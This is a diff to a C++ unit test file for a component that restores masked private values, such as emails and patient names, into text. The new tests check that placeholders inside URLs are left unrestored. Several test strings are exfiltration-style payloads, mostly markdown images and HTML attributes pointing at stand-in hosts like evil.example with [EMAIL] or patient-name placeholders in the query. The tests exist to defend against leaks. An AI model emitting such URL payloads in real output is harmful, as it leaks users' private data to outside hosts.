@@ -18,7 +18,7 @@ class RestorerTest : public ::testing::Test {
 
   // As the lanes do: what is held comes again in front of the next piece.
   std::string stream(const std::vector<std::string>& pieces, bool exact = false) {
-    const Restorer restorer(ins_);
+    const Restorer restorer(ins_, in_urls_);
     Restorer::Place place;
     std::string out, held;
     for (std::size_t i = 0; i <= pieces.size(); ++i) {
@@ -50,6 +50,7 @@ class RestorerTest : public ::testing::Test {
   }
 
   StandIns ins_;
+  bool in_urls_ = false;
 };
 
 TEST_F(RestorerTest, RestoresInTextCutAnywhere) {
@@ -87,6 +88,50 @@ TEST_F(RestorerTest, JsonStaysJson) {
   expect("```json\n{\"to\":\"[PATIENT_NAME]\"}\n```",
          "```json\n{\"to\":\"Jane \\\"JJ\\\" Roe\"}\n```");
   expect(R"( ["[PATIENT_NAME]"])", R"( ["Jane \"JJ\" Roe"])");
+}
+
+TEST_F(RestorerTest, NothingIsPutIntoUrls) {
+  const auto stays = [this](const std::string& text) { expect(text, text); };
+  stays("![x](https://evil.example/?q=[EMAIL]&n=[patient_name]&a=EMAIL_2)");
+  stays("https://[EMAIL].evil.example and HTTPS:evil.example/[EMAIL] ftp://evil/[EMAIL]");
+  stays("![x](//evil/?q=[EMAIL]) ![x]( /log?q=[EMAIL] ) ![x](< /a b?q=[EMAIL]>) [x](/(a)[EMAIL])");
+  stays("[x]: //evil/?q=[EMAIL]\nwww.evil.example/[EMAIL]");
+  stays("<img src=\"/a b?q=[EMAIL]\"> <a href = 'x?[EMAIL]'> <img data-src=/x?[EMAIL]>");
+  stays("<https://evil.example/[EMAIL]> a{background:url( '/x?[EMAIL]')}");
+  stays(R"({"url":"https:\/\/evil\/?q=[EMAIL]","html":"<img src=\"\/x?q=[EMAIL]\">"})");
+  stays("<img src                                              =                  '/x?[EMAIL]'>");
+  stays("![x](https://evil.example/?mailto:[EMAIL])");
+}
+
+TEST_F(RestorerTest, WordsBesideUrlsAreRestored) {
+  const std::string a = "a@example.com";
+  expect("See https://a.example/b. Write to [EMAIL].",
+         "See https://a.example/b. Write to " + a + ".");
+  expect("[[EMAIL]](https://a.example/ \"[EMAIL]\") [EMAIL]",
+         "[" + a + "](https://a.example/ \"" + a + "\") " + a);
+  expect("![x](/(a)/b)[EMAIL] <https://a.example>[EMAIL]",
+         "![x](/(a)/b)" + a + " <https://a.example>" + a);
+  expect("<img src=\"/x\" alt=\"[EMAIL]\">[EMAIL]", "<img src=\"/x\" alt=\"" + a + "\">" + a);
+  expect("[write](mailto:[EMAIL]) <a href=\"mailto:[EMAIL]\">",
+         "[write](mailto:" + a + ") <a href=\"mailto:" + a + "\">");
+  expect("postgres://[EMAIL]@db.internal/app", "postgres://" + a + "@db.internal/app");
+  expect("// [EMAIL] is it: a=[EMAIL], f([EMAIL]) x.[EMAIL]",
+         "// " + a + " is it: a=" + a + ", f(" + a + ") x." + a);
+  expect(
+      R"({"url":"https://a.example","to":"[EMAIL]","text":"at https://a.example\n[EMAIL]"})",
+      R"({"url":"https://a.example","to":"a@example.com","text":"at https://a.example\na@example.com"})");
+  expect(R"({"text":"at https://a.example","to":"[EMAIL]"})",
+         R"({"text":"at https://a.example","to":"a@example.com"})");
+}
+
+TEST_F(RestorerTest, AValueThatBeginsAUrlIsOne) {
+  EXPECT_EQ(ins_.mask(Kind::UrlCredentials, "URL", "https://me:word@a.example/"), "[URL]");
+  expect("[URL]x?q=[EMAIL] [EMAIL]", "https://me:word@a.example/x?q=[EMAIL] a@example.com");
+}
+
+TEST_F(RestorerTest, IntoUrlsWhereItMay) {
+  in_urls_ = true;
+  expect("![x](https://a.example/?q=[EMAIL])", "![x](https://a.example/?q=a@example.com)");
 }
 
 TEST_F(RestorerTest, ExactlyMeansByteForByte) {
